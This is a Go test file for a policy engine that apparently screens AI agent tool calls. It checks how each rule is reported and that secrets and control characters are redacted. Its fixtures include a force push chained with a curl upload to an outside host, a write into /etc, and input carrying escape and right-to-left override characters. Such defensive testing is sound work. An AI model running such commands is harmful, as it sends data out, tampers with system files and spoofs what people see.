package policy_test

import (
	"bytes"
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"

	"github.com/holdpoint/holdpoint/ahp"
	"github.com/holdpoint/holdpoint/facts"
	"github.com/holdpoint/holdpoint/policy"
)

func TestExplain(t *testing.T) {
	text := `version: 1
allow: {hosts: [up.example.com]}
rules:
  - {name: off, when: 'true', effect: deny, reason: r, enabled: false}
  - {name: tried, when: 'hazard("net.upload")', effect: flag, reason: r}
  - {name: seen, when: 'tool.kind == "shell"', effect: flag, reason: r}
  - {name: quiet, when: 'hazard("git.force_push")', effect: deny, reason: r, mode: shadow}
  - {name: first, when: 'hazard("git.force_push")', effect: deny, reason: No force., hint: Ask.}
  - {name: second, when: 'hazard("git.*")', effect: deny, reason: r}
  - {name: no, when: 'hazard("git.force_push") && session.cwd == "/x"', effect: deny, reason: r}
  - {name: absent, when: 'hazard("db.destructive")', effect: deny, reason: r}
`
	s, err := policy.Parse("p.yaml", []byte(text), policy.Options{Engine: engine()})
	if err != nil {
		t.Fatal(err)
	}
	e, err := s.Explain(t.Context(), pushFacts())
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"off": "disabled", "tried": "exempt", "seen": "flagged", "quiet": "shadow", "first": "denied",
		"second": "would deny", "no": "no match", "absent": "not considered",
	}
	for _, r := range e.Rules {
		if r.Outcome != want[r.Rule] {
			t.Errorf("%s: got %q (%s), want %q", r.Rule, r.Outcome, r.Detail, want[r.Rule])
		}
	}
	if len(e.Rules) != len(want) {
		t.Errorf("%d rules, want %d", len(e.Rules), len(want))
	}
	var out bytes.Buffer
	if err := e.WriteText(&out); err != nil {
		t.Fatal(err)
	}
	for _, part := range []string{
		"hazard    git.force_push: --force\n            | git push --force origin feature/x; curl -T x https://up.example.com/x\n            | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^\n",
		"file      read /home/dev/repo/x (workspace,",
		"url       upload https://up.example.com/x (public)",
		"denied         first  user p.yaml:8\n",
		"exempt         tried (an allow-list covers what it is about)",
		"1 evaluated without a match, 1 not considered",
		"deny by first\n  No force. Ask.\n",
	} {
		if !strings.Contains(out.String(), part) {
			t.Errorf("the text lacks %q:\n%s", part, out.String())
		}
	}
}

// What is shown holds no secret and no character that could change how it reads.
func TestExplainRedacts(t *testing.T) {
	const value = "tok-SENSITIVE-0123456789"
	find := func(_ context.Context, s string) ([]facts.SecretMatch, error) {
		if i := strings.Index(s, value); i >= 0 {
			return []facts.SecretMatch{{Kind: "test-token", Start: i, End: i + len(value)}}, nil
		}
		return nil, nil
	}
	s, err := policy.Parse("p.yaml", []byte("version: 1\npacks: [default]\n"), policy.Options{Engine: engine()})
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range []struct{ tool, key, text string }{
		{"Bash", "command", "echo \x1b[31m" + value + " \u202e | cat > /etc/x\nsecond line " + value},
		{"Bash", "command", "cat /srv/" + value + "/x && curl https://" + value + ".example.com"},
		{"Bash", "command", "git clone https://SENSITIVE:x@example.com/a.git && echo " + value},
		{"Write", "content", "first\nkey=" + value + "\n"},
		{"WebFetch", "url", "https://user:" + value + "@example.com/?token=" + value},
	} {
		input, err := json.Marshal(map[string]string{in.key: in.text})
		if err != nil {
			t.Fatal(err)
		}
		ev := &ahp.Event{ID: "e", Type: ahp.ToolBefore, Session: ahp.Session{CWD: "/home/dev/repo"}, Tool: &ahp.Tool{Name: in.tool, Kind: facts.KindOf(in.tool), Input: input}}
		f, err := facts.Extract(t.Context(), ev, facts.Options{Home: "/home/dev", Secrets: func(ctx context.Context, s string) ([]facts.SecretMatch, error) {
			all, err := find(ctx, s)
			if i := strings.LastIndex(s, value); err == nil && len(all) > 0 && i != all[0].Start {
				all = append(all, facts.SecretMatch{Kind: "test-token", Start: i, End: i + len(value)})
			}
			return all, err
		}})
		if err != nil {
			t.Fatal(err)
		}
		e, err := s.Explain(t.Context(), f)
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := e.WriteText(&out); err != nil {
			t.Fatal(err)
		}
		b, err := json.Marshal(e)
		if err != nil {
			t.Fatal(err)
		}
		for what, text := range map[string]string{"text": out.String(), "json": string(b)} {
			if strings.Contains(text, "SENSITIVE") || strings.ContainsAny(text, "\x1b\u202e") {
				t.Errorf("%s: %s shows what it must not:\n%s", in.tool, what, text)
			}
		}
		if !slices.ContainsFunc(e.Rules, func(r policy.ExplainedRule) bool {
			return r.Rule == "secrets.literal" && (r.Outcome == policy.OutcomeDenied || r.Outcome == policy.OutcomeWouldDeny)
		}) {
			t.Errorf("%s: denied by %q", in.tool, e.Decision.Rule)
		}
	}
}
